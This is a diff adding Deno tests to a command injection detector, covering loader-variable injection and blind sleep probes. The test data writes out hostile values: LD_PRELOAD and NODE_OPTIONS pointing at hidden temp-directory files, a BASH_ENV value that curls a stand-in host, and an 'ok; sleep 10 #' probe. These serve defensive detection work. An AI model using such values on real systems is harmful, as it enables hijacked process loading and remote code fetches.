@@ -320,3 +320,37 @@ Deno.test("commandInjectionDetector.scan() passes package specs, build cleanups 
     assert.deepEqual(scan(key, value).map((f) => f.reason), [], `${key}=${value}`);
   }
 });
+
+Deno.test("commandInjectionDetector.scan() flags loader variables in env objects and command prefixes", () => {
+  const cases: Array<[string, string]> = [
+    ["ld_preload", "/var/tmp/libx.so"],
+    ["node_options", "--require=/dev/shm/h.js"],
+    ["command", "LD_PRELOAD=/tmp/.l.so git status"],
+  ];
+  for (const [key, value] of cases) {
+    const kinds = scan(key, value).map((f) => f.kind);
+    assert.ok(kinds.includes("env_injection"), `${key}=${value}: got [${kinds}]`);
+  }
+  const item = commandInjectionDetector.scan(
+    "BASH_ENV=$(curl -s x.example/e)",
+    { stage: "input", path: "$.env[0]", key: undefined },
+    AUTO,
+  );
+  assert.ok(item.some((f) => f.kind === "env_injection"));
+});
+
+Deno.test("commandInjectionDetector.scan() passes a sleep inside a longer script in prose and plain env values", () => {
+  for (
+    const [key, value] of [
+      ["body", "Repro:\n```\nnpm start & sleep 3 && curl -s localhost:3000/health\n```"],
+      ["text", "wait for it: docker compose up -d; sleep 10; docker compose ps"],
+      ["comment", "Use `make db && sleep 2 && make migrate` locally."],
+      ["node_options", "--max-old-space-size=4096"],
+      ["text", "Set LD_PRELOAD=/tmp/libfaketime.so to test clocks"],
+    ] as Array<[string, string]>
+  ) {
+    assert.deepEqual(scan(key, value), [], `${key}=${value}`);
+  }
+  // A blind probe still counts: the sleep ends the injected chain.
+  assert.ok(scan("text", "ok; sleep 10 #").length > 0);
+});
